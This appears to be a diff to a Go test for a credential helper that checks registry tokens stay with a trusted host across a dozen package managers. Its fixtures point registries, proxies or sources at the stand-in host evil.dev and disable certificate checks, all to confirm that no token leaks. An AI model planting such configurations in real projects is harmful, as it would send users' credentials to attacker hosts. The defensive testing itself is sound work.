@@ -3,6 +3,7 @@ package main
 import (
 	"archive/zip"
 	"bytes"
+	"cmp"
 	"context"
 	"io"
 	"maps"
@@ -24,6 +25,7 @@ type forRow struct {
 	tool, program, script string
 	files                 map[string]string
 	hostile               []hostileProject
+	succeeds              bool // the token goes to the server of our world, without which the client fails
 }
 
 // hostileProject is the project with other files. Exec refuses it with these words, or the client runs and the token arrives at
@@ -31,6 +33,7 @@ type forRow struct {
 type hostileProject struct {
 	reason, says string
 	files        map[string]string
+	script       string // in place of the row's; may be empty
 }
 
 const (
@@ -51,61 +54,69 @@ func forRows() []forRow {
 	const byHTTP = `it asks for "git.acme.dev" by http`
 	return []forRow{
 		{"bundler", "bundle", "bundle lock", map[string]string{"Gemfile": "source 'https://git.acme.dev/gems/'\ngem 'hello'\n"}, []hostileProject{
-			{"another host", "", map[string]string{"Gemfile": "source 'https://evil.dev/gems/'\ngem 'hello'\n"}},
-			{"a host below ours", "", map[string]string{"Gemfile": "source 'https://evil.git.acme.dev/'\ngem 'hello'\n"}},
-			{"a mirror of ours", "", map[string]string{".bundle/config": "---\nBUNDLE_MIRROR__HTTPS://GIT__ACME__DEV/GEMS/: \"https://evil.dev/\"\n"}},
-			{"our host by http", byHTTP, map[string]string{"Gemfile": "source 'http://git.acme.dev/gems/'\ngem 'hello'\n"}},
-			{"our host's other port", `it asks for another port of "git.acme.dev"`, map[string]string{"Gemfile": "source 'https://git.acme.dev:9/gems/'\n"}},
-			{"no check of certificates", `"BUNDLE_SSL_VERIFY_MODE" can lead requests elsewhere`, map[string]string{".bundle/config": "---\nBUNDLE_SSL_VERIFY_MODE: \"0\"\n"}},
-		}},
+			{"another host", "", map[string]string{"Gemfile": "source 'https://evil.dev/gems/'\ngem 'hello'\n"}, ""},
+			{"a host below ours", "", map[string]string{"Gemfile": "source 'https://evil.git.acme.dev/'\ngem 'hello'\n"}, ""},
+			{"a mirror of ours", "", map[string]string{".bundle/config": "---\nBUNDLE_MIRROR__HTTPS://GIT__ACME__DEV/GEMS/: \"https://evil.dev/\"\n"}, ""},
+			{"our host by http", byHTTP, map[string]string{"Gemfile": "source 'http://git.acme.dev/gems/'\ngem 'hello'\n"}, ""},
+			{"our host's other port", `it asks for another port of "git.acme.dev"`, map[string]string{"Gemfile": "source 'https://git.acme.dev:9/gems/'\n"}, ""},
+			{"no check of certificates", `"BUNDLE_SSL_VERIFY_MODE" can lead requests elsewhere`, map[string]string{".bundle/config": "---\nBUNDLE_SSL_VERIFY_MODE: \"0\"\n"}, ""},
+		}, false},
 		{"composer", "composer", "composer update --no-interaction --no-plugins", map[string]string{
 			"composer.json": `{"repositories":[{"type":"composer","url":"https://git.acme.dev/composer"},{"packagist.org":false}],"require":{"acme/hello":"1.0"}}`}, []hostileProject{
-			{"another host", "", map[string]string{"composer.json": `{"repositories":[{"type":"composer","url":"https://evil.dev/"},{"packagist.org":false}],"require":{"acme/hello":"1.0"}}`}},
-			{"a redirect", "", map[string]string{"composer.json": `{"repositories":[{"type":"composer","url":"https://git.acme.dev/to/after-evil"},{"packagist.org":false}],"require":{"acme/hello":"1.0"}}`}},
-			{"our host by http", "secure-http", map[string]string{"composer.json": `{"config":{"secure-http":false},"repositories":[{"type":"composer","url":"https://git.acme.dev/composer"}]}`}},
-			{"our host by http, alone", byHTTP, map[string]string{"composer.json": `{"repositories":[{"type":"composer","url":"http:\/\/git.acme.dev\/composer"}]}`}},
-		}},
-		{"twine", "twine", "TWINE_REPOSITORY_URL=https://git.acme.dev/upload/ clerk-credential-helper exec --for twine -- twine upload --non-interactive hello-1.0-py3-none-any.whl", nil, nil},
+			{"another host", "", map[string]string{"composer.json": `{"repositories":[{"type":"composer","url":"https://evil.dev/"},{"packagist.org":false}],"require":{"acme/hello":"1.0"}}`}, ""},
+			{"a redirect", "", map[string]string{"composer.json": `{"repositories":[{"type":"composer","url":"https://git.acme.dev/to/after-evil"},{"packagist.org":false}],"require":{"acme/hello":"1.0"}}`}, ""},
+			{"our host by http", "secure-http", map[string]string{"composer.json": `{"config":{"secure-http":false},"repositories":[{"type":"composer","url":"https://git.acme.dev/composer"}]}`}, ""},
+			{"our host by http, alone", byHTTP, map[string]string{"composer.json": `{"repositories":[{"type":"composer","url":"http:\/\/git.acme.dev\/composer"}]}`}, ""},
+		}, false},
+		{"twine", "twine", "TWINE_REPOSITORY_URL=https://git.acme.dev/upload/ clerk-credential-helper exec --for twine -- twine upload --non-interactive hello-1.0-py3-none-any.whl", nil, []hostileProject{
+			{"another host", "one user name and password for all addresses", nil, "TWINE_REPOSITORY_URL=https://evil.dev/ clerk-credential-helper exec --for twine -- twine upload --non-interactive hello-1.0-py3-none-any.whl"},
+			{"another host beside ours", "one user name and password for all addresses", nil,
+				"TWINE_REPOSITORY_URL=https://git.acme.dev/ clerk-credential-helper exec --for twine -- twine upload --repository-url https://evil.dev/ --non-interactive hello-1.0-py3-none-any.whl"},
+			{"no host", "one user name and password for all addresses", nil, "clerk-credential-helper exec --for twine -- twine upload --non-interactive hello-1.0-py3-none-any.whl"},
+		}, false},
 		{"poetry", "poetry", "poetry lock -n", map[string]string{"pyproject.toml": pyproject}, []hostileProject{
-			{"another host", "", replaced("pyproject.toml", pyproject, "git.acme.dev", "evil.dev")},
-			{"our host by http", byHTTP, replaced("pyproject.toml", pyproject, "https:", "http:")},
-			{"no check of certificates", `"cert" can lead`, map[string]string{"poetry.toml": "[certificates.acme]\ncert = false\n"}},
-		}},
+			{"another host", "", replaced("pyproject.toml", pyproject, "git.acme.dev", "evil.dev"), ""},
+			{"our host by http", byHTTP, replaced("pyproject.toml", pyproject, "https:", "http:"), ""},
+			{"no check of certificates", `"cert" can lead`, map[string]string{"poetry.toml": "[certificates.acme]\ncert = false\n"}, ""},
+		}, false},
 		{"pdm", "pdm", "pdm config python.use_venv false; pdm use -f python3; clerk-credential-helper exec --for pdm -- pdm lock", map[string]string{"pyproject.toml": pdmFile}, []hostileProject{
-			{"another host", "", replaced("pyproject.toml", pdmFile, "git.acme.dev", "evil.dev")},
-			{"our host by http", byHTTP, replaced("pyproject.toml", pdmFile, "https:", "http:")},
-			{"no check of certificates", `"verify_ssl" can lead`, replaced("pyproject.toml", pdmFile, "verify_ssl = true", "verify_ssl = false")},
-		}},
-		{"maven", "mvn", "mvn -B -q validate", map[string]string{"pom.xml": pomFile}, []hostileProject{
-			{"our name for another host", `"corp" is the name of a registry of the profile, and of another`, map[string]string{"lib/pom.xml": strings.ReplaceAll(pomFile, "git.acme.dev", "evil.dev")}},
-			{"another name", "", replaced("pom.xml", pomFile, "<repositories>", "<repositories><repository><id>evil</id><url>https://evil.dev/maven/</url></repository>")},
-			{"another host alone", "takes a token by a registry's name", replaced("pom.xml", pomFile, "git.acme.dev", "evil.dev")},
-			{"our host by http", byHTTP, replaced("pom.xml", pomFile, "https:", "http:")},
-			{"another store of authorities", `"trustStore" can lead`, map[string]string{".mvn/jvm.config": "-Djavax.net.ssl.trustStore=evil.jks\n"}},
-		}},
+			{"another host", "", replaced("pyproject.toml", pdmFile, "git.acme.dev", "evil.dev"), ""},
+			{"our host by http", byHTTP, replaced("pyproject.toml", pdmFile, "https:", "http:"), ""},
+			{"no check of certificates", `"verify_ssl" can lead`, replaced("pyproject.toml", pdmFile, "verify_ssl = true", "verify_ssl = false"), ""},
+		}, false},
+		{"maven", "mvn", "mvn -B -q -Dmaven.repo.local=repository validate", map[string]string{"pom.xml": pomFile}, []hostileProject{
+			{"our name for another host", `"corp" is the name of a registry of the profile, and of another`, map[string]string{"lib/pom.xml": strings.ReplaceAll(pomFile, "git.acme.dev", "evil.dev")}, ""},
+			{"another name", "", replaced("pom.xml", pomFile, "<repositories>", "<repositories><repository><id>evil</id><url>https://evil.dev/maven/</url></repository>"), ""},
+			{"another host alone", "takes a token by a registry's name", replaced("pom.xml", pomFile, "git.acme.dev", "evil.dev"), ""},
+			{"our host by http", byHTTP, replaced("pom.xml", pomFile, "https:", "http:"), ""},
+			{"another store of authorities", `"trustStore" can lead`, map[string]string{".mvn/jvm.config": "-Djavax.net.ssl.trustStore=evil.jks\n"}, ""},
+		}, false},
 		{"gradle", "gradle", "gradle --no-daemon -q dependencies", map[string]string{"build.gradle": gradleFile, "settings.gradle": ""}, []hostileProject{
-			{"our host by http", byHTTP, replaced("build.gradle", gradleFile, "https:", "http:")},
-			{"a proxy", `"proxyHost" can lead`, map[string]string{"gradle.properties": "systemProp.https.proxyHost evil.dev\n"}},
-		}},
+			{"our host by http", byHTTP, replaced("build.gradle", gradleFile, "https:", "http:"), ""},
+			{"a proxy", `"proxyHost" can lead`, map[string]string{"gradle.properties": "systemProp.https.proxyHost evil.dev\n"}, ""},
+		}, false},
 		{"cargo", "cargo", "cargo fetch", map[string]string{"Cargo.toml": cargoFile, "src/main.rs": "fn main() {}\n", ".cargo/config.toml": cargoNamed}, []hostileProject{
-			{"our name for another host", `"corp" is the name of`, map[string]string{"../.cargo/config.toml": strings.ReplaceAll(cargoNamed, "git.acme.dev", "evil.dev")}},
-			{"another name", "", map[string]string{".cargo/config.toml": cargoNamed + "[registries.evil]\nindex = \"sparse+https://evil.dev/cargo/\"\n", "Cargo.toml": strings.ReplaceAll(cargoFile, `"corp"`, `"evil"`)}},
-			{"a source in place of ours", "", map[string]string{".cargo/config.toml": cargoNamed + "[source.\"sparse+https://git.acme.dev/cargo/\"]\nregistry = \"sparse+https://git.acme.dev/cargo/\"\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+https://evil.dev/cargo/\"\n"}},
-			{"a proxy", `"proxy" can lead`, map[string]string{".cargo/config.toml": cargoNamed + "[http]\nproxy = \"http://{REC}\"\n"}},
-			{"our host by http", byHTTP, replaced(".cargo/config.toml", cargoNamed, "https:", "http:")},
-		}},
+			{"our name for another host", `"corp" is the name of`, map[string]string{"../.cargo/config.toml": strings.ReplaceAll(cargoNamed, "git.acme.dev", "evil.dev")}, ""},
+			{"another name", "", map[string]string{".cargo/config.toml": cargoNamed + "[registries.evil]\nindex = \"sparse+https://evil.dev/cargo/\"\n", "Cargo.toml": strings.ReplaceAll(cargoFile, `"corp"`, `"evil"`)}, ""},
+			{"a source in place of ours", "", map[string]string{".cargo/config.toml": cargoNamed + "[source.\"sparse+https://git.acme.dev/cargo/\"]\nregistry = \"sparse+https://git.acme.dev/cargo/\"\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+https://evil.dev/cargo/\"\n"}, ""},
+			{"a proxy", `"proxy" can lead`, map[string]string{".cargo/config.toml": cargoNamed + "[http]\nproxy = \"http://{REC}\"\n"}, ""},
+			{"our host by http", byHTTP, replaced(".cargo/config.toml", cargoNamed, "https:", "http:"), ""},
+		}, false},
 		{"terraform", "terraform", "terraform init -backend=false", map[string]string{"main.tf": "module \"a\" {\n  source = \"git.acme.dev/acme/hello/null\"\n}\n"}, []hostileProject{
-			{"another host", "", map[string]string{"main.tf": "module \"a\" {\n  source = \"evil.dev/acme/hello/null\"\n}\n"}},
-			{"our host by http", byHTTP, map[string]string{"main.tf": "module \"a\" {\n  source = \"http://git.acme.dev/a.zip\"\n}\n"}},
-		}},
+			{"another host", "", map[string]string{"main.tf": "module \"a\" {\n  source = \"evil.dev/acme/hello/null\"\n}\n"}, ""},
+			{"our host by http", byHTTP, map[string]string{"main.tf": "module \"a\" {\n  source = \"http://git.acme.dev/a.zip\"\n}\n"}, ""},
+		}, false},
 		{"r", "Rscript", "Rscript -e 'available.packages()'", map[string]string{".Rprofile": renvLine}, []hostileProject{
-			{"another host", "", map[string]string{".Rprofile": "options(repos = 'https://evil.dev/cran')\n"}},
-			{"a redirect", "", map[string]string{".Rprofile": "options(repos = 'https://git.acme.dev/to/after-evil')\n"}},
-		}},
+			{"another host", "", map[string]string{".Rprofile": "options(repos = 'https://evil.dev/cran')\n"}, ""},
+			{"a redirect", "", map[string]string{".Rprofile": "options(repos = 'https://git.acme.dev/to/after-evil')\n"}, ""},
+		}, false},
+		{"deno", "deno", "deno cache --no-config --allow-import main.ts", map[string]string{"main.ts": "import hello from 'https://{TOOLS}/npm/hello' with {type: 'json'};\nconsole.log(hello);\n"}, []hostileProject{
+			{"another host", "", map[string]string{"main.ts": "import hello from 'https://evil.dev/npm/hello' with {type: 'json'};\nconsole.log(hello);\n"}, ""},
+		}, true},
 		{"nix", "nix-prefetch-url", "nix-prefetch-url $(cat address)", map[string]string{"address": "https://git.acme.dev/hello.tar.gz"}, []hostileProject{
-			{"another host", "", map[string]string{"address": "https://evil.dev/hello.tar.gz"}},
-			{"a redirect", "", map[string]string{"address": "https://git.acme.dev/to/after-evil/hello.tar.gz"}},
-		}},
+			{"another host", "", map[string]string{"address": "https://evil.dev/hello.tar.gz"}, ""},
+			{"a redirect", "", map[string]string{"address": "https://git.acme.dev/to/after-evil/hello.tar.gz"}, ""},
+		}, false},
 	}
 }
 
@@ -148,6 +159,7 @@ func TestExecFor(t *testing.T) {
 		"HTTP_PROXY": proxy, "http_proxy": proxy, "HTTPS_PROXY": proxy, "https_proxy": proxy, "ALL_PROXY": proxy, "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1",
 		"CURL_CA_BUNDLE": authorities, "REQUESTS_CA_BUNDLE": authorities, "CARGO_HTTP_CAINFO": authorities, "NIX_SSL_CERT_FILE": authorities,
 		"CARGO_HOME": filepath.Join(home, ".cargo"), "CARGO_NET_RETRY": "0", "BUNDLE_RETRY": "0", "COMPOSER_ALLOW_SUPERUSER": "1", "CHECKPOINT_DISABLE": "1", "PDM_CHECK_UPDATE": "0",
+		"DENO_CERT": authorities, "DENO_DIR": filepath.Join(dir, "deno"), "DENO_NO_UPDATE_CHECK": "1",
 		"MAVEN_OPTS": java, "GRADLE_OPTS": java, "NIX_STORE_DIR": filepath.Join(dir, "nix/store"), "NIX_STATE_DIR": filepath.Join(dir, "nix/state"), "NIX_LOG_DIR": filepath.Join(dir, "nix/log"),
 		"NIX_CONFIG": "sandbox = false\nbuild-users-group =\ndownload-attempts = 1",
 	} {
@@ -195,7 +207,7 @@ func TestExecFor(t *testing.T) {
 				files["../.git/HEAD"] = "ref: refs/heads/main\n"
 				maps.Copy(files, more)
 				for name, text := range files {
-					write(t, filepath.Join(folder, name), strings.ReplaceAll(text, "{REC}", rec.addr))
+					write(t, filepath.Join(folder, name), strings.NewReplacer("{REC}", rec.addr, "{TOOLS}", vars["TOOLS"]).Replace(text))
 				}
 				return folder
 			}
@@ -210,6 +222,12 @@ func TestExecFor(t *testing.T) {
 					t.Errorf("the token arrived at %s: %.200s", a.place, a.text)
 				}
 			}
+			if row.succeeds {
+				without, said := run(t, project(nil), row.script)
+				if there = status == exitOK; without == exitOK {
+					t.Errorf("it succeeds without the token: %s", said)
+				}
+			}
 			if !there {
 				t.Errorf("the token did not arrive: %d\n%s", status, out)
 			}
@@ -221,7 +239,7 @@ func TestExecFor(t *testing.T) {
 			for _, h := range row.hostile {
 				t.Run(h.reason, func(t *testing.T) {
 					rec.since()
-					status, out := run(t, project(h.files), script)
+					status, out := run(t, project(h.files), cmp.Or(h.script, script))
 					arrived := rec.since()
 					asked := slices.ContainsFunc(arrived, func(a arrival) bool { return a.place != "http://the proxy" })
 					for _, a := range arrived {
